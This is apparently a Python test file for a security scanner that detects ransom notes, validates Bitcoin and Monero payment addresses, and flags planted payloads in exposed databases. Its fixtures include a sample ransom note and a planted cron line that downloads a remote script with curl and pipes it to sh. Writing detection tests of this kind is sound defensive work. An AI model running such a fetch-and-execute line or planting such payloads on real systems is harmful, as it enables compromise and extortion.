"""Ransom notes: found by what they demand, not by a single word."""

from __future__ import annotations

from perisai.classify.validators import monero
from perisai.compromise import (
    detect_planted_payload,
    detect_ransom_note,
    is_note_name,
    looks_wiped,
    payment_addresses,
)
from perisai.findings import Auth, DataProfile, Target
from perisai.probes.common import exposure_finding

# The Monero project's published donation address, and the same with one character changed.
XMR = (
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSs"
    "aBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)
XMR_TYPO = XMR[:50] + ("X" if XMR[50] != "X" else "Y") + XMR[51:]

NOTE = (
    "All your data is backed up. You must pay 0.0125 BTC to "
    "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 48 hours to recover it. After 48 hours "
    "your data will be leaked and reported under GDPR. Contact recover@example.net"
)


def test_note_found_with_payment_address_in_full_and_contact_masked() -> None:
    note = detect_ransom_note("chatlog.public.README_TO_RECOVER_YOUR_DATA", NOTE)
    assert note is not None
    assert note.payment_addresses == ("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",)
    assert "r***@example.net" in note.preview and "recover@example.net" not in note.preview


def test_ordinary_text_is_not_a_note() -> None:
    assert detect_ransom_note("messages", "Please restore my backup, I lost my phone") is None
    assert detect_ransom_note("README", "How to build: run make") is None
    assert detect_ransom_note("prices", "BTC price today is up") is None


def test_note_names() -> None:
    assert is_note_name("READ_ME_TO_RECOVER_YOUR_DATA")
    assert is_note_name("db0/WARNING")
    assert not is_note_name("messages")


def test_monero_address_by_its_keccak_checksum() -> None:
    assert monero(XMR)
    assert not monero(XMR_TYPO)
    assert not monero(XMR[:-1])


def test_payment_addresses_only_when_checksums_hold() -> None:
    text = (
        f"send 0.5 XMR to {XMR} or BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT; "
        f"not {XMR_TYPO} and not 1BoatSLRHtKNngkdXEeobR76b53LETtpyU"
    )
    assert payment_addresses(text) == (XMR, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT")


def test_planted_cron_job_and_ssh_key() -> None:
    cron = detect_planted_payload(
        "db0/backup1", "\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n"
    )
    assert cron is not None and cron.kind == "cron job" and "curl" in cron.preview
    key = detect_planted_payload("db0/backup2", "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x\n")
    assert key is not None and key.kind == "SSH public key"


def test_schedules_and_prose_are_not_planted_payloads() -> None:
    assert detect_planted_payload("cfg", "*/5 * * * *") is None  # a schedule, no command
    assert detect_planted_payload("cfg", "0 3 * * * run nightly report") is None
    assert detect_planted_payload("doc", "use ssh-rsa keys of 4096 bits") is None


def test_a_store_of_little_but_a_note_looks_wiped() -> None:
    assert looks_wiped(1, 1)  # the note is all there is
    assert looks_wiped(2, 1)
    assert not looks_wiped(5000, 1)  # a note beside live data: visited, not (yet) wiped
    assert not looks_wiped(0, 0)  # an empty store with no note is just empty
    assert not looks_wiped(None, 1)  # size unknown: no claim


def test_an_exposure_whose_store_is_little_but_a_note_says_it_was_wiped() -> None:
    note = detect_ransom_note("README", NOTE)
    assert note is not None
    target = Target("127.0.0.1", 6379, "redis")

    def exposure(records: int) -> list[str]:
        finding = exposure_finding(
            rule_id="redis.unauthenticated",
            title="t",
            target=target,
            auth=Auth.NONE,
            profile=DataProfile(records_estimated=records),
            notes=[note],
            evidence=[],
            remediation="r",
        )
        return [e.text for e in finding.evidence]

    assert any("deleted by the campaign" in line for line in exposure(1))
    assert not any("deleted by the campaign" in line for line in exposure(40_000))
